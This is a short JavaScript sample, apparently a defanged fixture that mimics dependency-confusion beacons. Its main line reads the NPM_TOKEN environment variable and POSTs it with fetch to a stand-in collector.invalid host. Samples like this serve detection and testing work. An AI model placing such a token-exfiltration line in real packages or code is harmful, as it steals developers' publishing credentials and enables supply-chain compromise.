// Mimics dependency-confusion beacons and the `is` wave: a token variable sent with fetch.
// Defanged: .invalid host, fake variable.
const token = process.env.NPM_TOKEN;
fetch('https://collector.invalid/t', { method: 'POST', body: JSON.stringify({ token }) });
